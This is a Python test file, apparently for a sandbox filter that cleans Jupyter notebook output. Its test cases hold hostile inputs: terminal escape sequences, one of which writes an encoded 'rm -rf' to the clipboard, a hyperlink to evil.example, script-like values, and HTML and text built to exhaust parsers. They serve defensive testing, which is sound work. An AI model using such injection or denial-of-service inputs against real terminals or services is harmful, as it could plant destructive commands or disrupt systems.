    assert show(image__png=data, text__plain="x") == {"text/plain": "x"}
    assert show(image__jpeg=PNG, text__plain="x") == {"text/plain": "x"}


def test_json_passes_in_bounds() -> None:
    assert show(application__json={"a": [1, None]}, text__plain="x")["application/json"] == {"a": [1, None]}
    deep: Any = 1
    for _ in range(200):
        deep = [deep]
    assert show(application__json=deep, text__plain="x") == {"text/plain": "x"}


@pytest.mark.parametrize(
    ("text", "clean"),
    [
        ("\x1b[31mred\x1b[0m \x1b[1;38:2::1:2:3mbold", None),
        ("a\tb\r\nc\b", None),
        ("50%\r\x1b[K60%", None),
        ("\x1b[2J\x1b[Hx", "x"),
        ("\x1b]0;title\x07x\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\", "xlink"),
        ("\x1b]52;c;cm0gLXJm\x07x", "x"),
        ("\x1bP+q544e\x1b\\x\x1b_apc\x1b\\y\x1bcz", "xyc" + "z"),
        ("\x9b2Jx\x00\x07\x7f\x85", "2Jx"),
        ("\x1b[?1049hx", "x"),
        ("\ud800x", "\ufffdx"),
    ],
)
def test_text_keeps_colours_and_loses_terminal_controls(text: str, clean: str | None) -> None:
    assert clean_text(text) == (text if clean is None else clean)
    assert admit("stream", name="stdout", text=text) == {"name": "stdout", "text": text if clean is None else clean}


@given(st.text(alphabet=st.sampled_from("\x1b[]m;0P\\K\x07\x9b?H\x00é\ud800x\n")))
def test_no_control_survives_cleaning(text: str) -> None:
    rest = re.sub(r"\x1b\[[0-9;:]*[mK]", "", clean_text(text))
    assert not re.search(r"[\x00-\x07\x0b\x0c\x0e-\x1f\x7f-\x9f\ud800-\udfff]", rest)


def test_output_beyond_the_limit_is_counted_and_explained() -> None:
    outputs = OutputFilter(OutputPolicy(max_bytes=10 * 2**20), OutputPage("s1-"))
    messages = [Message(msg_type="stream", content={"name": "stdout", "text": "é" * 2**19}) for _ in range(100)]
    admitted = [message for message in map(outputs.admit, messages) if message]
    shown = sum(len(message.content["text"].encode()) for message in admitted)
    assert 10 * 2**20 - 2**16 < shown <= 10 * 2**20
    assert shown + outputs.dropped_bytes == pytest.approx(100 * 2**20, abs=1)
    notice = outputs.notice() or ""
    assert notice.startswith("[sandbox] 90 MiB of output dropped after the first 10 MiB")
    assert 'Sandbox(max_output="100m")' in notice


def test_a_display_beyond_the_limit_is_dropped_whole_and_named() -> None:
    outputs = OutputFilter(OutputPolicy(max_bytes=2**20), OutputPage("s1-"))
    data = {"image/png": PNG + "A" * 3 * 2**20, "text/plain": "<Figure>"}
    message = outputs.admit(Message(msg_type="display_data", content={"data": data, "metadata": {}}))
    assert message is not None
    assert message.content["data"] == {"text/plain": "<Figure>"}
    assert "image/png of 3 MiB" in (outputs.notice() or "")


@pytest.mark.parametrize(
    ("msg_type", "content"),
    [
        ("clear_output", {"wait": True}),
        ("stream", {"name": "stdout", "text": ""}),
        ("display_data", {"data": {"text/plain": ""}}),
    ],
)
def test_a_flood_of_empty_messages_ends(msg_type: str, content: dict[str, Any]) -> None:
    outputs = OutputFilter(OutputPolicy(max_bytes=1024), OutputPage("s1-"))
    # An empty stream message costs the notebook as much as any other.
    admitted = [outputs.admit(Message(msg_type=msg_type, content=content)) for _ in range(1000)]
    assert sum(message is not None for message in admitted) < 100


def test_the_first_error_is_shown_after_the_limit() -> None:
    outputs = OutputFilter(OutputPolicy(max_bytes=1024), OutputPage("s1-"))
    outputs.admit(Message(msg_type="stream", content={"name": "stdout", "text": "x" * 5000}))
    error = Message(msg_type="error", content={"ename": "E", "evalue": "v", "traceback": ["E: v"]})
    assert outputs.admit(error) is not None
    assert outputs.admit(error) is None


def test_an_error_is_cleaned_and_bounded() -> None:
    lines = ["\x1b[31mE\x1b[0m\x1b[2J\x1b[K\r\x1b]0;x\x07"] + ["y" * 10**6] * 5000
    error = admit("error", ename="E\x1b[2J", evalue="v" * 10**6, traceback=lines)
    assert error is not None
    assert error["ename"] == "E"
    assert error["traceback"][0] == "\x1b[31mE\x1b[0m"
    assert len(error["traceback"]) <= MAX_ERROR_LINES + 1
    assert any("4501 parts left out" in line for line in error["traceback"])
    assert sum(map(len, error["traceback"])) + len(error["evalue"]) < 2**19


def test_displays_are_named_within_their_session() -> None:
    content = {"data": {"text/plain": "x"}, "metadata": {}, "transient": {"display_id": "gauge"}}
    shown = admit("display_data", **content)
    assert shown is not None
    assert shown["transient"] == {"display_id": "s1-gauge"}
    assert admit("update_display_data", **content) == shown


@pytest.mark.parametrize("display_id", ["", "a b", "x" * 200, "<script>", "a\n"])
def test_a_strange_display_id_is_dropped(display_id: str) -> None:
    content = {"data": {"text/plain": "x"}, "metadata": {}, "transient": {"display_id": display_id}}
    assert admit("display_data", **content) == {"data": {"text/plain": "x"}, "metadata": {}}
    assert admit("update_display_data", **content) is None


def test_metadata_keeps_known_keys_of_known_types() -> None:
    metadata = {
        "image/png": {"width": 100, "height": "9px", "needs_background": "light", "alt": "plot", "onload": "x"},
        "text/html": {"isolated": True},
        "isolated": True,
        "width": True,
        "expanded": False,
    }
    shown = admit("display_data", data={"image/png": PNG}, metadata=metadata)
    assert shown is not None
    assert shown["metadata"] == {
        "image/png": {"width": 100, "needs_background": "light", "alt": "plot"},
        "expanded": False,
    }


def test_a_message_is_rebuilt_without_its_extras() -> None:
    message = Message(
        msg_type="execute_result",
        content={"data": {"text/plain": "1"}, "metadata": {}, "execution_count": 3, "evil": 1},
        metadata={"evil": 1},
        buffers=[b"evil"],
        parent_id="p",
    )
    shown = OutputFilter(OutputPolicy(), OutputPage("s1-")).admit(message)
    assert shown is not None
    assert shown.content == {"data": {"text/plain": "1"}, "metadata": {}, "execution_count": 3}
    assert (shown.metadata, shown.buffers, shown.parent_id) == ({}, [], "p")


@pytest.mark.parametrize(
    ("msg_type", "content"),
    [
        ("comm_open", {}),
        ("stream", {}),
        ("stream", {"name": "stdin", "text": "x"}),
        ("stream", {"name": "stdout", "text": ["x"]}),
        ("display_data", {"data": []}),
        ("display_data", {"data": {"text/html": ["<p>"]}}),
        ("display_data", {"data": {"image/png": 1}}),
        ("display_data", {"data": {"text/plain": None}}),
        ("display_data", {"data": {"application/json": float("nan")}}),
        ("display_data", {"data": {"text/plain": "x"}, "metadata": []}),
        ("display_data", {"data": {"text/plain": "x"}, "transient": None}),
        ("display_data", {"data": {"text/plain": "x"}, "transient": {"display_id": 1}}),
        ("execute_result", {"data": {"text/plain": "x"}, "execution_count": True}),
        ("execute_result", {"data": {"text/plain": "x"}, "execution_count": -1}),
        ("execute_result", {"data": {"text/plain": "x"}}),
        ("clear_output", {"wait": 1}),
        ("error", {"ename": "E", "evalue": "v", "traceback": "x"}),
        ("error", {"ename": "E", "evalue": "v", "traceback": [1]}),
        ("error", {"ename": None, "evalue": "v", "traceback": []}),
    ],
)
def test_a_malformed_message_is_a_breach_of_the_protocol(msg_type: str, content: dict[str, Any]) -> None:
    with pytest.raises(AgentProtocolError, match="malformed"):
        admit(msg_type, **content)


JSON = st.recursive(
    st.sampled_from([None, True, 0, -1, 1.5, "", "x", "\ud800", "text/html", "image/png", "stdout"]),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=8,
)
KEYS = st.sampled_from(["name", "text", "data", "metadata", "transient", "ename", "evalue", "traceback", "wait"])


@given(
    st.sampled_from(["stream", "display_data", "update_display_data", "execute_result", "clear_output", "error"]),
    st.dictionaries(KEYS, JSON),
)
def test_any_content_is_admitted_dropped_or_refused(msg_type: str, content: dict[str, Any]) -> None:
    try:
        admit(msg_type, **content)
    except AgentProtocolError:
        pass


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 10**6,
        "<div " + " ".join(f"a{i}=1" for i in range(10**6)) + ">",
        '<!--<a t="-->' + "<div " + " ".join(f"a{i}" for i in range(10**6)) + '">',
        "<div a" * 10**6,
        '<a x="' * 10**6,
        "<p style='color:" + " " * 10**6 + "('>x",
        "<table>" + "<br>" * 10**6,
        "<div>" * 4000 + "</td>" * 10**6,
        "&aaaaaaaaaaaaaaaaaaaa;" * 10**6,
        "<" * 10**6,
        "<p " + " " * 10**6 + "x",
    ],
    ids=lambda html: html[:12],
)
def test_html_made_to_keep_the_parser_busy_is_given_up_soon(html: str) -> None:
    start = time.process_time()
    clean_html(html)
    assert time.process_time() - start < 15  # minutes to hours where nothing is bounded


@pytest.mark.parametrize(
    "text", ["\x1b]" * 10**6, "\x1b[" + "1" * 10**6, "\x1bP" * 10**6, "[" * 10**6, "](" * 10**5, "`" * 10**6]
)
def test_text_made_to_keep_the_patterns_busy_is_done_soon(text: str) -> None:
    start = time.process_time()
    clean_text(text)
    clean_markdown(text)
    clean_latex(text)
    assert time.process_time() - start < 15
